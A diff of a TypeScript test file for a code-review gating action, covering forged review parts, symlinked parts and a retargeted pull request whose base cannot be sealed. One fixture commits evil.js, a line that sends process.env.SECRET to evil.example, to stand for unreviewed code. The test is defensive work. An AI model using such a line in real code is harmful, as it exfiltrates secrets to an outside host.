@@ -3,13 +3,16 @@
 // own "part" there, or a link in its place, is never evidence: its steps played as the runner plays
 // them (test/support/composite.ts), the JavaScript steps through the bundle.
 import { describe, expect, it } from 'vitest';
-import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
+import { cpSync, mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { tmpdir } from 'node:os';
-import { commitAll, makeCartRepo } from '../support/repo.js';
+import { commitAll, emptyRepo, git, makeCartRepo } from '../support/repo.js';
 import { playComposite } from '../support/composite.js';
 import { unescapeMarkdown } from '../support/markdown.js';
-import { DOTENV_CANARY, ENV_CANARIES, expectNoCanary } from './support.js';
+import { useGitHubServer } from '../support/github-server.js';
+import { TOKEN } from '../support/pull-request.js';
+import { scopeOf } from '../support/review.js';
+import { DOTENV_CANARY, ENV_CANARIES, expectNoCanary, writePart } from './support.js';
 
 const ID = 'pr-9';
 
@@ -52,29 +55,117 @@ function gateJob(repo: string) {
 }
 
 describe('the review action merges only a part that arrived from the agent job (#130)', () => {
-  it('#130 a change that commits its own part at proofgate-parts/<id>/: never evidence, incomplete, the files named', () => {
+  it('#130 a change that commits its own part at proofgate-parts/<id>/: never evidence, incomplete, the files named', async () => {
     const repo = makeCartRepo();
     writeFileSync(join(repo, '.env'), `TOKEN=${DOTENV_CANARY}\n`);
     forgedPart(join(repo, 'proofgate-parts', ID));
     commitAll(repo, 'a change that brings its own review');
-    const r = gateJob(repo);
+    const r = await gateJob(repo);
     expect(r.outputs.verdict).toBe('incomplete');
     expect(r.failed).toBe(true);
     expect(unescapeMarkdown(r.summary)).toMatch(/tracked in git at the head \(committed by the change\), so they are never evidence/);
     expectNoCanary({ summary: r.summary, outputs: JSON.stringify(r.outputs) });
   });
 
-  it('#130 a change that puts a link at proofgate-parts/<id> to a part outside the checkout: never followed, incomplete', () => {
+  it('#130 a change that puts a link at proofgate-parts/<id> to a part outside the checkout: never followed, incomplete', async () => {
     const repo = makeCartRepo();
     const outside = mkdtempSync(join(tmpdir(), 'proofgate-forged-'));
     forgedPart(outside);
     mkdirSync(join(repo, 'proofgate-parts'));
     symlinkSync(outside, join(repo, 'proofgate-parts', ID));
     commitAll(repo, 'a change that links its own review');
-    const r = gateJob(repo);
+    const r = await gateJob(repo);
     expect(r.outputs.verdict).toBe('incomplete');
     expect(r.failed).toBe(true);
     expect(r.outputs['open-findings']).toBe('0');
     expect(r.summary).not.toMatch(/\*\*clean\*\*/);
+  });
+});
+
+const github = useGitHubServer();
+
+/** Commits `file` holding `text` on the current branch. */
+function commitFile(repo: string, file: string, text: string, msg: string): string {
+  writeFileSync(join(repo, file), text);
+  git(repo, 'add', '-A');
+  git(repo, 'commit', '-qm', msg);
+  return git(repo, 'rev-parse', 'HEAD').trim();
+}
+
+/**
+ * A criss-cross history: main merged x then y; the author's own base branch `fbase` merged them its
+ * own way and added code nobody reviews; the change `feat` on top. Against main the merge base is
+ * ambiguous, so no scope can be sealed there.
+ */
+function crissCross(): { repo: string; main: string; fbase: string; head: string } {
+  const repo = emptyRepo('proofgate-574-');
+  writeFileSync(join(repo, '.gitignore'), '_bmad-output/\nproofgate-parts/\n');
+  commitFile(repo, 'a.txt', 'a\n', 'A');
+  for (const branch of ['x', 'y']) {
+    git(repo, 'checkout', '-qb', branch, 'main');
+    commitFile(repo, `${branch}.txt`, `${branch}\n`, branch);
+  }
+  git(repo, 'checkout', '-q', 'main');
+  git(repo, 'merge', '-q', '--no-ff', 'x', '-m', 'M1');
+  git(repo, 'merge', '-q', '--no-ff', 'y', '-m', 'M2');
+  const main = git(repo, 'rev-parse', 'HEAD').trim();
+  git(repo, 'checkout', '-qb', 'fbase', 'x');
+  git(repo, 'merge', '-q', '--no-ff', 'y', '-m', 'own merge');
+  const fbase = commitFile(repo, 'evil.js', 'fetch("https://evil.example/?" + process.env.SECRET);\n', 'evil');
+  git(repo, 'checkout', '-qb', 'feat');
+  const head = commitFile(repo, 'benign.js', 'export const one = 1;\n', 'benign');
+  return { repo, main, fbase, head };
+}
+
+describe('#574 a seal that fails before the gate never leaves an earlier clean check standing', () => {
+  it('#574 the gate job of review.yml (the review action, merge-parts) on a retarget it cannot seal against: its gate step still runs and publishes the stop, judging nothing an earlier run left', async () => {
+    const { repo, main, fbase, head } = crissCross();
+    const env = { GITHUB_API_URL: github().url, GITHUB_SERVER_URL: 'https://github.example', GITHUB_RUN_ID: '99' };
+    const event = (action: string, base: string, ref: string) => ({
+      action,
+      number: 7,
+      pull_request: { number: 7, body: 'x', base: { sha: base, ref }, head: { sha: head, ref: 'feat' } },
+    });
+    /** The gate job: the agent job's part (each reviewer covered the change and found nothing) arrives by its id. */
+    const gateJob = (on: object) =>
+      playComposite(
+        'review',
+        repo,
+        { id: 'pr-7', 'merge-parts': 'true', 'part-artifact-id': '1', 'github-token': TOKEN },
+        (uses, inputs) => {
+          if (uses.startsWith('actions/upload-artifact@')) return { outputs: { 'artifact-id': '2' } };
+          if (!uses.startsWith('actions/download-artifact@')) return {};
+          const scope = scopeOf(repo, 'pr-7');
+          const agentJob = mkdtempSync(join(tmpdir(), 'proofgate-part-'));
+          for (const [i, reviewer] of scope.reviewers.entries())
+            writePart(agentJob, scope.scopeSha256, String(i + 1), 'U1', ['benign.js'], [], reviewer.id);
+          cpSync(join(agentJob, 'parts'), join(repo, inputs.path!), { recursive: true });
+          return {};
+        },
+        { event: on, env },
+      );
+    const standing = () =>
+      github()
+        .checkRuns.filter((r) => r.head_sha === head && r.name === 'proofgate review')
+        .at(-1)!;
+
+    // `opened` against fbase: sealed, reviewed, clean.
+    Object.assign(github().pull, { baseRef: 'fbase', repo, baseSha: fbase, headSha: head });
+    const opened = await gateJob(event('opened', fbase, 'fbase'));
+    expect(opened.outputs.verdict, opened.summary).toBe('clean');
+    expect(standing().conclusion).toBe('success');
+
+    // `edited`: retargeted to main, whose diff from the head holds evil.js. The seal fails, the gate runs all the same.
+    Object.assign(github().pull, { baseRef: 'main', baseSha: main });
+    const edited = await gateJob(event('edited', main, 'main'));
+    const step = (id: string) => edited.steps.find((s) => s.step.id === id)!;
+    expect(step('scope').outcome).toBe('failure');
+    expect(step('gate').ran).toBe(true);
+    expect(edited.failed).toBe(true);
+    // What branch protection reads for the required check on the head: no longer the clean run against fbase.
+    expect(standing()).toMatchObject({ status: 'completed', conclusion: 'failure', output: { title: 'stopped before a verdict' } });
+    // The scope the earlier run left in the folder is not judged: no verdict, and the stop says why.
+    expect(edited.outputs.verdict).toBe('');
+    expect(unescapeMarkdown(standing().output.summary ?? '')).toContain('the review-scope step of this job left no scope it sealed');
   });
 });
